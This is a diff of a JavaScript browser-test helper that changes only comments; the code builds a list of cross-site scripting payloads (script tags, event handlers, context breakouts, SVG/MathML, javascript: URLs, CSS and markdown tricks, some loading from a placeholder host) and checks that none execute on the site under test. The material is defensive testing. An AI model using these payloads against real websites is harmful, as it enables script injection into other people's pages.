@@ -1,10 +1,10 @@
-// Texts that would run, fetch or lead away if a page took them for more than text, and a look whether any of them did.
+// Injection payloads, and checks that none of them had an effect.
 import { assert, base } from "./browser.mjs";
 
-// Each sets a mark of its own, by which it is found on a page and told when it ran. No page of ours knows this host.
+// Each payload has its own marker, to find it on a page and to notice when it ran.
 const away = "https://elsewhere.invalid";
 const made = [
-  // Tags that run.
+  // Tags.
   (hit) => `<script>${hit}</script>`,
   (hit) => `<ScRiPt>${hit}</sCrIpT>`,
   (hit) => `<script/x>${hit}</script >`,
@@ -13,7 +13,7 @@ const made = [
   (hit) => `<script src=${away}/${hit}></script>`,
   (hit) => `<script src="data:text/javascript,${hit}"></script>`,
   (hit) => `<script type=module>${hit}</script>`,
-  // Attributes that run.
+  // Event attributes.
   (hit) => `<img src=x onerror=${hit}>`,
   (hit) => `<img src=x onerror="${hit}"`,
   (hit) => `<img/src=x/onerror=${hit}>`,
@@ -26,7 +26,7 @@ const made = [
   (hit) => `<marquee onstart=${hit}>x</marquee>`,
   (hit) => `<div popover id=x onbeforetoggle=${hit}></div>`,
   (hit) => `<style>@keyframes x{}</style><b onanimationstart=${hit}>`,
-  // Out of where it stands.
+  // Breaking out of the context.
   (hit) => `" onmouseover="${hit}" x="`,
   (hit) => `' onfocus='${hit}' autofocus x='`,
   (hit) => `"><img src=x onerror=${hit}>`,
@@ -39,13 +39,13 @@ const made = [
   (hit) => `</noscript><img src=x onerror=${hit}>`,
   (hit) => `--><script>${hit}</script><!--`,
   (hit) => `]]><script>${hit}</script>`,
-  // Drawings and other languages.
+  // SVG and MathML.
   (hit) => `<svg onload=${hit}>`,
   (hit) => `<svg><script>${hit}</script></svg>`,
   (hit) => `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
   (hit) => `<svg><a xlink:href="javascript:${hit}"><text>x</text></a></svg>`,
   (hit) => `<math><mtext><style><img title="</style><img src onerror=${hit}>">`,
-  // Addresses.
+  // URLs.
   (hit) => `<a href="javascript:${hit}">x</a>`,
   (hit) => `<a href="java\tscript:${hit}">x</a>`,
   (hit) => `javascript:${hit}`,
@@ -60,11 +60,11 @@ const made = [
   (hit) => `<base href="${away}/${hit}/">`,
   (hit) => `<link rel=stylesheet href=${away}/${hit}>`,
   (hit) => `<img src=${away}/${hit}>`,
-  // Style.
+  // CSS.
   (hit) => `<p style="background:url(${away}/${hit})">`,
   (hit) => `<style>body{background:url(${away}/${hit})}</style>`,
   (hit) => `;background:url(${away}/${hit})`,
-  // What other layers would make of it.
+  // Markdown, templates and encodings.
   (hit) => `[x](javascript:${hit})`,
   (hit) => `![x](${away}/${hit})`,
   (hit) => `<${away}/${hit}>`,
@@ -86,7 +86,7 @@ const letters = "abcdefghijklmnopqrstuvwxyz";
 const name = (at) => `hit_${letters[Math.floor(at / 26)]}${letters[at % 26]}`;
 export const corpus = made.map((make, at) => ({ mark: name(at), text: make(`${name(at)}=1`) }));
 
-// Notes what a page's policy had to stop: it must not come to that.
+// Records CSP violations; there must be none.
 export async function watch(context) {
   await context.addInitScript(() => {
     globalThis.stopped = [];
@@ -94,7 +94,7 @@ export async function watch(context) {
   });
 }
 
-// Nothing ran, nothing is there that would, and what should be read there can be read.
+// No payload ran or could run, and the expected texts are readable.
 export async function clean(page, where, marks = []) {
   const found = await page.evaluate((own) => {
     const wrong = Object.keys(globalThis).filter((key) => key.startsWith("hit_")).map((key) => `${key} ran`);
@@ -120,7 +120,7 @@ export async function clean(page, where, marks = []) {
   assert.deepEqual(lost, [], `can be read on ${where}: ${found.text.slice(0, 3000)}`);
 }
 
-// Goes somewhere and looks. Whatever is refused there is refused in words, and never a fault of the server.
+// Opens a page and checks it. Errors are 4xx pages, never 5xx.
 export async function visit(page, path, marks = []) {
   const answer = await page.goto(base + path);
   assert.ok(answer.status() < 500, `${path} answers ${answer.status()}`);
@@ -128,7 +128,7 @@ export async function visit(page, path, marks = []) {
   return answer.status();
 }
 
-// Fills a form of the page that is open as no browser would let anybody, and sends it.
+// Fills a form of the current page, bypassing validation, and submits it.
 export async function send(page, form, values) {
   const loaded = page.waitForEvent("load");
   await form.evaluate((form, values) => {
@@ -139,7 +139,7 @@ export async function send(page, form, values) {
       field.value = value;
     }
     form.noValidate = true;
-    // What is called submit in a form hides its method.
+    // A field named `submit` hides the method.
     HTMLFormElement.prototype.submit.call(form);
   }, values);
   await loaded;
